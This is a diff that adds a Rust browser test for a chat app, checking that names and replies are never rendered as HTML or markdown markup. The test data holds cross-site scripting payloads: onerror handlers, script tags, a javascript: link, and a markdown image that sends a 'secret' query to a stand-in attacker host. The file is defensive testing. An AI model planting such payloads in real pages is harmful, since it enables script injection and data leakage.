@@ -1,0 +1,44 @@
+//! Nothing that anybody wrote becomes markup: not a name, not a reply, not a suggestion.
+
+use std::time::Duration;
+
+use serde_json::json;
+
+use crate::shop::{BUBBLES, STILL, Shop, say};
+
+const NAME: &str = "<img src=x onerror=\"document.title=1\"><script>document.title=2</script>";
+const REPLY: &str = "<img src=x onerror=\"document.title=3\"> <script>document.title=4</script> [tap](javascript:document.title=5) \
+                     ![x](https://evil.example/?q=secret) [fine](https://good.example/) **bold <b>x</b>** `<i>`\n\
+                     >>next: Tell me <img src=x onerror=document.title=6> | More please";
+
+#[test]
+fn no_text_becomes_markup() {
+    let shop = Shop::open(NAME, REPLY, Duration::from_millis(1));
+    let browser = shop.chat();
+    assert_eq!(browser.text("document.querySelector('h1').textContent"), NAME);
+    say(&browser, "<img src=x onerror=document.title=7>");
+    browser.until(&format!("{BUBBLES} === 2 && {STILL}"));
+    browser.reload();
+    browser.until(&format!("{BUBBLES} === 2"));
+    std::thread::sleep(Duration::from_millis(300));
+    assert_eq!(browser.text("document.title"), NAME, "no script of theirs ran");
+    assert_eq!(
+        browser.value("document.querySelectorAll('img, b, i:not(.dots i), script:not([src])').length"),
+        json!(0)
+    );
+    let links = browser.value("[...document.querySelectorAll('.chat a')].map((a) => a.href)");
+    assert_eq!(
+        links,
+        json!(["https://good.example/"]),
+        "a picture is never fetched, and no link runs a script"
+    );
+    assert_eq!(browser.value("document.querySelector('.theirs strong').textContent"), json!("bold <b>x</b>"));
+    let asked = browser.value("performance.getEntriesByType('resource').filter((one) => !one.name.startsWith(location.origin)).length");
+    assert_eq!(asked, json!(0), "nothing was fetched from elsewhere");
+    assert_eq!(browser.complaints(), "");
+    // The start page shows the same name.
+    browser.go(&shop.url("/"));
+    browser.until("document.querySelector('.doors')");
+    assert!(browser.text("document.querySelector('.doors').textContent").contains(NAME));
+    assert_eq!(browser.text("document.title"), "Munshi");
+}
